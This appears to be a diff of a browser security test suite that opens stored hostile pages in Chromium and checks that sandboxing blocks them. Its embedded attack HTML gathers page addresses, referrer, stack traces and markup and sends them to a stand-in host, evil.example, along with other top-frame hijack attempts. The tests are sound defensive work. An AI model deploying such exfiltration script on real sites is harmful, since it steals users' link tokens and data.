@@ -1,10 +1,10 @@
 /**
  * Pages written to attack whoever opens them, in a browser: page, confirmation and redirect page, with scripts of the workspace allowed and
- * not. None reaches the console of the same server, none can be framed, none passes for another host, and none carries its token away.
+ * not. None reaches the console of the same server, none can be framed, none changes the address bar, and none reads the token of its link.
  */
 import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
-import type { Page } from "playwright-core";
+import type { Frame, Page } from "playwright-core";
 import { describe, expect, test } from "vitest";
 import { callHeddle } from "../client.ts";
 import { demoKey } from "../heddle.ts";
@@ -22,36 +22,56 @@ describe.skipIf(browserMissing)("in Chromium", () => {
 
   test.each(cases)("a hostile %s, with scripts %s, reaches nothing of the server", async (kind, scripts) => {
     const { opened: { page, seen }, url } = await openHostile(kind, scripts, attack);
-    expect(await page.evaluate("window.origin")).toBe("null");
-    expect(new URL(page.url()).pathname).toBe(new URL(url).pathname);
-    if (scripts === "off") {
-      // Had one begun, it would have said so before the page was loaded
-      expect(await page.evaluate("document.documentElement.dataset.began ?? 'no'")).toBe("no");
+    const address = page.url();
+    const content = contentOf(page);
+    if (runsScripts(kind, scripts)) {
+      await expect.poll(() => resultsOf(seen)).toEqual(Object.fromEntries(attempts.map((name) => [name, "stopped"])));
+      expect(decodeURIComponent(String(await content.evaluate("readable().join(' ')")))).not.toContain(tokenOf(url));
     } else {
-      await expect.poll(() => resultsOf(page)).toEqual({
-        console: "stopped",
-        overview: "stopped",
-        beacon: "stopped",
-        frame: "stopped",
-        window: "stopped",
-        cookie: "stopped",
-        storage: "stopped",
-        // Its own address, by leave of the workspace: it may read it, and write another path of the same host into it
-        token: "read",
-        pushState: "reached",
-        replaceState: "reached",
-        otherHost: "stopped",
-      });
+      // Had one begun, it would have said so before the page was loaded
+      expect(await content.evaluate("document.documentElement.dataset.began ?? 'no'")).toBe("no");
     }
+    expect([await page.evaluate("window.origin"), await content.evaluate("window.origin")]).toEqual(["null", "null"]);
     expect(seen.foreign).toEqual([]);
-    expect(new URL(page.url()).host).toBe(new URL(url).host);
-    if (scripts === "off") expect(new URL(page.url()).pathname).toBe(new URL(url).pathname);
+    expect(page.url()).toBe(address);
+    // What is sent with a token of its own has another one in its address, and no word more
+    expect(new URL(address).pathname).toMatch(kind === "page" ? new URL(url).pathname : /^\/preferences\/[\w-]+$/);
+    if (runsScripts(kind, scripts)) {
+      // It may lead its own frame astray, and gets no further than that
+      await content.evaluate(`location.href = "https://evil.example/astray"`).catch(() => undefined);
+      await expect.poll(() => seen.console.join("\n")).toContain("Framing 'https://evil.example/'");
+      expect([seen.foreign, page.url()]).toEqual([[], address]);
+    }
+  });
+
+  test.each([["page"], ["confirmation"]] as const)(
+    "a script of a %s leads the person on by their own click alone, and tells nothing of the link",
+    async (kind) => {
+      const { opened: { page, seen }, url } = await openHostile(kind, "on", attack);
+      const content = contentOf(page);
+      await expect.poll(() => resultsOf(seen)).toMatchObject({ topLocation: "stopped", topForm: "stopped" });
+      await content.locator("#lead").click({ noWaitAfter: true });
+      await expect.poll(() => seen.foreign.length).toBeGreaterThan(0);
+      expect(decodeURIComponent(seen.foreign.join())).toContain("https://evil.example/led?about:srcdoc");
+      expect(decodeURIComponent(seen.foreign.join())).not.toContain(tokenOf(url));
+    },
+  );
+
+  test("what a script can read opens the page for some hours, whoever has it, and is no link that is good for longer", async () => {
+    const { opened: { page }, url } = await openHostile("page", "on", attack);
+    const base = String(await contentOf(page).evaluate("document.baseURI"));
+    expect(new URL(base).pathname).toMatch(/^\/preferences\/[\w-]+$/);
+    expect(tokenOf(base)).not.toBe(tokenOf(url));
+    const framed = await (await fetch(base)).text();
+    // Asked with it, the page has no other
+    expect(framed).toContain(`<base href="${tokenOf(base)}">`);
+    expect(framed).not.toContain(tokenOf(url));
   });
 
   test.each(cases)("a link of a %s, with scripts %s, tells nobody where it stood", async (kind, scripts) => {
     const { opened: { page, seen }, url } = await openHostile(kind, scripts, `<a id="away" href="https://evil.example/away">away</a>`);
     const asked = page.waitForRequest((request) => request.url().startsWith("https://evil.example/"));
-    await page.locator("#away").click({ noWaitAfter: true });
+    await contentOf(page).locator("#away").click({ noWaitAfter: true });
     const headers = await (await asked).allHeaders();
     expect(JSON.stringify(headers)).not.toContain(tokenOf(url));
     expect([headers["referer"], seen.foreign]).toEqual([undefined, ["https://evil.example/away"]]);
@@ -111,8 +131,8 @@ describe.skipIf(browserMissing)("in Chromium", () => {
     expect(overview.status).toBe(200);
     const opened = await browser.open(url);
     if (kind !== "page") {
-      await opened.page.getByRole("button", { name: "Save" }).click({ noWaitAfter: true });
-      await opened.page.waitForURL(/\?save$|shop\.example|chrome-error/, { waitUntil: "commit" }).catch(() => undefined);
+      await contentOf(opened.page).getByRole("button", { name: "Save" }).click({ noWaitAfter: true });
+      await opened.page.waitForURL(/\?save$|shop\.example|chrome-error/).catch(() => undefined);
     }
     return { opened, url };
   }
@@ -127,22 +147,66 @@ async function createHostile(workspace: Workspace, kind: Kind, html: string): Pr
   });
 }
 
-async function resultsOf(page: Page): Promise<unknown> {
-  return JSON.parse(String(await page.evaluate("document.documentElement.dataset.results ?? '{}'")));
+/** Where the stored HTML is: in a frame where its scripts run. */
+function contentOf(page: Page): Frame {
+  const [top, framed] = page.frames();
+  return (framed?.url() === "about:srcdoc" ? framed : top) as Frame;
 }
+
+/** A redirect page leads on by itself and runs nothing. */
+function runsScripts(kind: Kind, scripts: "on" | "off"): boolean {
+  return scripts === "on" && kind !== "redirect";
+}
+
+/** As the page wrote them: a question of the browser's tools counts as the person's own click. */
+function resultsOf({ console }: Opened["seen"]): unknown {
+  const line = console.find((text) => text.startsWith(resultsMark)) ?? `${resultsMark}{}`;
+  return JSON.parse(line.slice(resultsMark.length));
+}
+
+const resultsMark = "results ";
 
 function tokenOf(url: string): string {
   return new URL(url).pathname.slice("/preferences/".length);
 }
 
+const attempts = [
+  "console",
+  "overview",
+  "beacon",
+  "frame",
+  "window",
+  "cookie",
+  "storage",
+  "token",
+  "parent",
+  "pushState",
+  "replaceState",
+  "otherHost",
+  "hash",
+  "topLocation",
+  "topOpen",
+  "topForm",
+  "topLink",
+  "back",
+];
+
 /** Each way in says whether it was open. What is sent is seen by the browser's own list of requests. */
 const attack = `<iframe id="frame" src="/console"></iframe>
 <img src="x" onerror="document.documentElement.dataset.began = 'yes'">
 <svg onload="document.documentElement.dataset.began = 'yes'"></svg>
+<button id="lead" type="button" onclick="top.location.href = 'https://evil.example/led?' + encodeURIComponent(readable().join(' '))">lead</button>
 <script>
 document.documentElement.dataset.began = "yes";
+const violated = [];
+addEventListener("securitypolicyviolation", (event) => violated.push(event.documentURI, event.sourceFile));
+function readable() {
+  const timed = performance.getEntries().map(({ name }) => name);
+  return [location.href, document.URL, document.baseURI, document.referrer, new Request("x").url, new Error("x").stack,
+    document.documentElement.outerHTML, window.name, ...timed, ...violated];
+}
 (async () => {
-  const results = { token: location.pathname.length > "/preferences/".length + 20 ? "read" : "stopped" };
+  const results = {};
   async function attempt(name, work) {
     try { results[name] = (await work()) ? "reached" : "stopped"; } catch { results[name] = "stopped"; }
   }
@@ -169,9 +233,34 @@ document.documentElement.dataset.began = "yes";
   });
   await attempt("cookie", () => { document.cookie = "a=b"; return document.cookie !== ""; });
   await attempt("storage", () => { localStorage.setItem("a", "b"); return true; });
-  await attempt("pushState", () => { history.pushState(null, "", "/console"); return true; });
+  await attempt("token", () => location.pathname.length > "/preferences/".length + 20);
+  await attempt("parent", () => (parent === window ? true : parent.location.href !== ""));
+  await attempt("pushState", () => { history.pushState(null, "", "/console"); return location.pathname === "/console"; });
+  await attempt("replaceState", () => { history.replaceState(null, "", "/docs"); return location.pathname === "/docs"; });
   await attempt("otherHost", () => { history.pushState(null, "", "https://bank.example/"); return true; });
-  await attempt("replaceState", () => { history.replaceState(null, "", "/docs"); return true; });
-  document.documentElement.dataset.results = JSON.stringify(results);
+  await attempt("hash", () => { top.location.hash = "#owned"; return top === window; });
+  async function stays(work) {
+    let gone = false;
+    addEventListener("pagehide", () => { gone = true; }, { once: true });
+    work();
+    await new Promise((settled) => setTimeout(settled, 300));
+    return gone || top === window;
+  }
+  await attempt("topLocation", () => stays(() => { top.location.href = "https://evil.example/top"; }));
+  await attempt("topOpen", () => stays(() => window.open("https://evil.example/open", "_top")));
+  await attempt("topForm", () => stays(() => {
+    const form = document.createElement("form");
+    [form.method, form.target, form.action] = ["post", "_top", new URL("?save", document.baseURI).href];
+    document.body.append(form);
+    form.submit();
+  }));
+  await attempt("topLink", () => stays(() => {
+    const link = document.createElement("a");
+    [link.href, link.target] = ["https://evil.example/link", "_top"];
+    document.body.append(link);
+    link.click();
+  }));
+  await attempt("back", () => stays(() => { top.history.back(); }));
+  console.log("${resultsMark}" + JSON.stringify(results));
 })();
 </script>`;
